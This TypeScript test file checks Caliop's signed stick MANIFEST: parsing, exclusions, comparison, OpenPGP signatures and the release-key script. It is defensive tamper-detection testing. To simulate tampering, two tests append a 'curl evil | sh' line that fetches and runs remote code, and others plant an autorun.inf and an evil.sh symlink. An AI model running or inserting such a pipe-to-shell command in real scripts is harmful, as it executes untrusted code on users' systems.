// The stick's MANIFEST (docs/manifest.md): format vectors, round trip, exclusions,
// comparison, the release signature (checked by real gpg too), verifyStick on a real
// folder, and scripts/release-key.ts's refusals.
import { spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { appendFileSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, symlinkSync, unlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import * as esbuild from 'esbuild';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  compareWithManifest,
  formatManifest,
  isExcludedFromManifest,
  MANIFEST_HEADER,
  parseManifest,
  type ManifestEntry,
} from '../src/core/stick-manifest.js';
import { manifestEntriesOf } from '../src/edges/stick-tree.js';
import { isCaliopError } from '../src/errors.js';
import { generateReleaseKey, readReleaseSecretKey, signManifest, signManifestReproducibly, type ReleaseKey } from '../src/service/manifest-signature.js';
import { verifyStick } from '../src/service/stick-verify.js';
import { makeGpg } from './helpers/gpg.js';

const VECTORS = join(import.meta.dirname, 'vectors', 'stick-manifest');

interface Vector {
  description: string;
  manifest: string;
  expect: 'valid' | 'manifest_invalid';
  entries?: ManifestEntry[];
}

function sha256(text: string | Uint8Array): string {
  return createHash('sha256').update(text).digest('hex');
}

describe('MANIFEST format vectors (test/vectors/stick-manifest/)', () => {
  const files = readdirSync(VECTORS).filter((f) => f.endsWith('.json')).sort();
  it('has vectors', () => expect(files.length).toBeGreaterThan(10));
  for (const file of files) {
    const vector = JSON.parse(readFileSync(join(VECTORS, file), 'utf8')) as Vector;
    it(`${file}: ${vector.description}`, () => {
      if (vector.expect === 'valid') {
        const entries = parseManifest(vector.manifest);
        expect(entries).toEqual(vector.entries);
        expect(formatManifest(entries)).toBe(vector.manifest);
      } else {
        let caught: unknown;
        try {
          parseManifest(vector.manifest);
        } catch (error) {
          caught = error;
        }
        expect(isCaliopError(caught, 'manifest_invalid'), String(caught)).toBe(true);
      }
    });
  }
});

describe('MANIFEST round trip', () => {
  it('formatManifest then parseManifest gives back the entries, sorted (seeded random trees)', () => {
    let seed = 12345;
    const random = (n: number): number => {
      seed = (seed * 1103515245 + 12345) % 2147483648;
      return seed % n;
    };
    const alphabet = 'abcXYZ019 -_.()~';
    for (let round = 0; round < 200; round++) {
      const paths = new Set<string>();
      const count = random(12);
      while (paths.size < count) {
        const segments = Array.from({ length: 1 + random(3) }, () => {
          let segment = '';
          while (segment === '' || segment === '.' || segment === '..') {
            segment = Array.from({ length: 1 + random(8) }, () => alphabet[random(alphabet.length)]).join('');
          }
          return segment;
        });
        const path = segments.join('/');
        if (!isExcludedFromManifest(path)) paths.add(path);
      }
      const entries = [...paths].map((path) => ({ path, size: random(1 << 30), sha256: sha256(path) }));
      const text = formatManifest(entries);
      expect(text.startsWith(`${MANIFEST_HEADER}\n`)).toBe(true);
      expect(parseManifest(text)).toEqual([...entries].sort((a, b) => (a.path < b.path ? -1 : a.path > b.path ? 1 : 0)));
    }
  });

  it('refuses to write a path that could not be read back', () => {
    expect(() => formatManifest([{ path: 'a\nb', size: 1, sha256: sha256('x') }])).toThrow(/printable ASCII/);
    expect(() => formatManifest([{ path: 'vault/caliop.vault', size: 1, sha256: sha256('x') }])).toThrow(/never listed/);
  });
});

describe('exclusions (docs/manifest.md §4)', () => {
  it.each([
    ['MANIFEST', true],
    ['MANIFEST.sig', true],
    ['vault', true],
    ['vault/caliop.vault', true],
    ['vault/.caliop.vault.1.tmp', true],
    ['System Volume Information/IndexerVolumeGuid', true],
    ['.Spotlight-V100/Store-V2/x', true],
    ['.fseventsd/fseventsd-uuid', true],
    ['._Caliop.command', true],
    ['.DS_Store', true],
    ['.Trash-1000/files/x', true],
    ['config.json', false],
    ['caliop-linux-x64', false],
    ['vaults/x', false],
    ['docs/vault/x', false],
  ])('%s excluded: %s', (path, excluded) => {
    expect(isExcludedFromManifest(path)).toBe(excluded);
  });
});

describe('compareWithManifest', () => {
  const manifest: ManifestEntry[] = [
    { path: 'a', size: 1, sha256: sha256('a') },
    { path: 'b', size: 1, sha256: sha256('b') },
    { path: 'c', size: 1, sha256: sha256('c') },
  ];
  it('names what differs, is missing and is extra; ignores excluded files', () => {
    const result = compareWithManifest(manifest, [
      { path: 'a', size: 1, sha256: sha256('a') },
      { path: 'b', size: 1, sha256: sha256('B') },
      { path: 'd', size: 1, sha256: sha256('d') },
      { path: 'vault/caliop.vault', size: 9, sha256: sha256('v') },
      { path: '.DS_Store', size: 9, sha256: sha256('v') },
    ]);
    expect(result).toEqual({ differs: ['b'], missing: ['c'], extra: ['d'] });
  });
  it('a file of another size differs even unread; a non-regular file (size -1) never matches', () => {
    const result = compareWithManifest(manifest, [{ path: 'a', size: 2 }, { path: 'b', size: -1 }, { path: 'c', size: 1, sha256: sha256('c') }]);
    expect(result).toEqual({ differs: ['a', 'b'], missing: [], extra: [] });
  });
});

describe('the release signature and verifyStick', () => {
  let dir: string;
  let stick: string;
  let release: ReleaseKey;
  let other: ReleaseKey;

  async function writeSignedManifest(key: ReleaseKey = release): Promise<void> {
    const text = formatManifest(await manifestEntriesOf(stick));
    writeFileSync(join(stick, 'MANIFEST'), text);
    writeFileSync(join(stick, 'MANIFEST.sig'), await signManifest(new TextEncoder().encode(text), await readReleaseSecretKey(key.secretKeyArmored)));
  }

  beforeAll(async () => {
    dir = mkdtempSync(join(tmpdir(), 'caliop-manifest-'));
    release = await generateReleaseKey({ name: 'Throwaway test release key' });
    other = await generateReleaseKey({ name: 'Another key' });
  });
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  function freshStick(name: string): void {
    stick = join(dir, name);
    mkdirSync(join(stick, 'vault'), { recursive: true });
    writeFileSync(join(stick, 'caliop-linux-x64'), 'pretend executable\n');
    writeFileSync(join(stick, 'caliop.sh'), '#!/bin/sh\n');
    writeFileSync(join(stick, 'config.json'), '{"relay":{}}\n');
    mkdirSync(join(stick, 'docs'));
    writeFileSync(join(stick, 'docs', 'notes.txt'), 'notes\n');
  }

  it('the release key is v4 EdDSA (Ed25519Legacy)', async () => {
    const key = await readReleaseSecretKey(release.secretKeyArmored);
    expect(key.keyPacket.version).toBe(4);
    expect(key.getAlgorithmInfo()).toMatchObject({ algorithm: 'eddsaLegacy', curve: 'ed25519Legacy' });
  });

  it('an untouched stick verifies', async () => {
    freshStick('untouched');
    await writeSignedManifest();
    writeFileSync(join(stick, 'vault', 'caliop.vault'), 'sealed'); // the vault is excluded: it changes
    expect(await verifyStick(stick, release.certArmored)).toEqual({ ok: true, signatureValid: true, differs: [], missing: [], extra: [] });
  });

  it('gpg 2.2 accepts MANIFEST.sig too (interop: anyone can check a stick without caliop)', async () => {
    freshStick('gpg');
    await writeSignedManifest();
    const peer = makeGpg(dir);
    writeFileSync(join(dir, 'release.cert.asc'), release.certArmored);
    peer.run(['--quiet', '--import', join(dir, 'release.cert.asc')]);
    const result = peer.spawn(['--status-fd', '1', '--verify', join(stick, 'MANIFEST.sig'), join(stick, 'MANIFEST')]);
    peer.kill();
    expect(result.stdout.toString()).toMatch(/\[GNUPG:\] GOODSIG/);
  });

  it('stick_modified_file: a changed, a removed and an added file are each named', async () => {
    freshStick('modified');
    await writeSignedManifest();
    appendFileSync(join(stick, 'caliop.sh'), 'curl evil | sh\n');
    unlinkSync(join(stick, 'docs', 'notes.txt'));
    writeFileSync(join(stick, 'autorun.inf'), '[autorun]\n');
    writeFileSync(join(stick, '.DS_Store'), 'mac'); // made by macOS: ignored
    expect(await verifyStick(stick, release.certArmored)).toEqual({
      ok: false,
      signatureValid: true,
      differs: ['caliop.sh'],
      missing: ['docs/notes.txt'],
      extra: ['autorun.inf'],
    });
  });

  it('stick_same_size_substitution: a file replaced by one of the same size differs', async () => {
    freshStick('same-size');
    await writeSignedManifest();
    writeFileSync(join(stick, 'caliop-linux-x64'), 'pretend EXECUTABLE\n');
    expect((await verifyStick(stick, release.certArmored)).differs).toEqual(['caliop-linux-x64']);
  });

  it('stick_symlink_substitution: a symbolic link in place of a listed file differs', async () => {
    freshStick('symlink');
    await writeSignedManifest();
    unlinkSync(join(stick, 'caliop.sh'));
    writeFileSync(join(dir, 'evil.sh'), '#!/bin/sh\n');
    symlinkSync(join(dir, 'evil.sh'), join(stick, 'caliop.sh'));
    expect((await verifyStick(stick, release.certArmored)).differs).toEqual(['caliop.sh']);
  });

  it('manifest_rewritten: a MANIFEST edited to match a modified stick fails the signature', async () => {
    freshStick('rewritten');
    await writeSignedManifest();
    appendFileSync(join(stick, 'caliop.sh'), 'curl evil | sh\n');
    writeFileSync(join(stick, 'MANIFEST'), formatManifest(await manifestEntriesOf(stick)));
    const result = await verifyStick(stick, release.certArmored);
    expect(result.signatureValid).toBe(false);
    expect(result.ok).toBe(false);
  });

  it('manifest_signed_by_another_key: a stick re-signed by someone else fails the signature', async () => {
    freshStick('other-key');
    await writeSignedManifest(other);
    const result = await verifyStick(stick, release.certArmored);
    expect(result).toMatchObject({ ok: false, signatureValid: false });
  });

  it('a missing MANIFEST.sig, a garbage signature, a malformed MANIFEST', async () => {
    freshStick('broken');
    await writeSignedManifest();
    writeFileSync(join(stick, 'MANIFEST.sig'), 'not a signature');
    expect(await verifyStick(stick, release.certArmored)).toMatchObject({ ok: false, signatureValid: false });
    unlinkSync(join(stick, 'MANIFEST.sig'));
    await expect(verifyStick(stick, release.certArmored)).rejects.toMatchObject({ code: 'manifest_invalid' });
    await writeSignedManifest();
    writeFileSync(join(stick, 'MANIFEST'), 'garbage\n');
    await expect(verifyStick(stick, release.certArmored)).rejects.toMatchObject({ code: 'manifest_invalid' });
    await expect(verifyStick(stick, 'not a cert')).rejects.toMatchObject({ code: 'manifest_invalid' });
  });

  it('a reproducible signature: same key, manifest and date give the same bytes; it verifies', async () => {
    const key = await readReleaseSecretKey(release.secretKeyArmored);
    const bytes = new TextEncoder().encode(`${MANIFEST_HEADER}\n`);
    const date = new Date(Math.floor(Date.now() / 1000) * 1000);
    const first = await signManifestReproducibly(bytes, key, date);
    expect(await signManifestReproducibly(bytes, key, date)).toBe(first);
    // while the default signature carries a random salt
    expect(await signManifest(bytes, key)).not.toBe(await signManifest(bytes, key));
    freshStick('reproducible');
    writeFileSync(join(stick, 'MANIFEST'), formatManifest(await manifestEntriesOf(stick)));
    writeFileSync(join(stick, 'MANIFEST.sig'), await signManifestReproducibly(readFileSync(join(stick, 'MANIFEST')), key, date));
    expect((await verifyStick(stick, release.certArmored)).ok).toBe(true);
  });
});

describe('scripts/release-key.ts', () => {
  let dir: string;
  let script: string;
  beforeAll(async () => {
    dir = mkdtempSync(join(tmpdir(), 'caliop-release-key-'));
    // Bundled beside the repo's node_modules (build/ is ignored by git) so openpgp resolves.
    script = join(import.meta.dirname, '..', 'build', 'test-scripts', 'release-key.mjs');
    await esbuild.build({ entryPoints: [join(import.meta.dirname, '..', 'scripts', 'release-key.ts')], outfile: script, bundle: true, packages: 'external', platform: 'node', format: 'esm', logLevel: 'silent' });
  });
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  function releaseKey(args: string[]): ReturnType<typeof spawnSync> {
    return spawnSync(process.execPath, [script, ...args], { encoding: 'utf8' });
  }

  it('refuses to write the secret key inside the repository', () => {
    const result = releaseKey(['generate', '--secret-out', join(import.meta.dirname, '..', 'x.release-key.asc'), '--no-passphrase', '--allow-online']);
    expect(result.status).toBe(1);
    expect(String(result.stderr)).toMatch(/inside the repository/);
  });

  it('refuses to run online without --allow-online (when this machine is online)', async () => {
    const { probeNetwork } = await import('../src/edges/network-probe.js');
    const result = releaseKey(['generate', '--secret-out', join(dir, 'k1.asc'), '--no-passphrase']);
    if (probeNetwork().online) {
      expect(result.status).toBe(1);
      expect(String(result.stderr)).toMatch(/refusing to generate the release key while this machine is online/);
    } else {
      expect(result.status).toBe(0);
    }
  });

  it('generates a passphrase-protected key outside the repo, prints the cert, signs a manifest', () => {
    writeFileSync(join(dir, 'pass'), 'a long release passphrase\n');
    const keyPath = join(dir, 'k2.asc');
    const generated = releaseKey(['generate', '--secret-out', keyPath, '--passphrase-file', join(dir, 'pass'), '--allow-online']);
    expect(generated.status, String(generated.stderr)).toBe(0);
    expect(String(generated.stdout)).toMatch(/^-----BEGIN PGP PUBLIC KEY BLOCK-----/);
    expect(readFileSync(keyPath, 'utf8')).toMatch(/^-----BEGIN PGP PRIVATE KEY BLOCK-----/);
    expect(releaseKey(['generate', '--secret-out', keyPath, '--no-passphrase', '--allow-online']).status).toBe(1); // no overwrite
    writeFileSync(join(dir, 'MANIFEST'), `${MANIFEST_HEADER}\n`);
    expect(releaseKey(['sign', '--key', keyPath, '--manifest', join(dir, 'MANIFEST')]).status).toBe(1); // protected: no passphrase
    const signed = releaseKey(['sign', '--key', keyPath, '--manifest', join(dir, 'MANIFEST'), '--passphrase-file', join(dir, 'pass')]);
    expect(signed.status, String(signed.stderr)).toBe(0);
    expect(readFileSync(join(dir, 'MANIFEST.sig'), 'utf8')).toMatch(/^-----BEGIN PGP SIGNATURE-----/);
  });
});
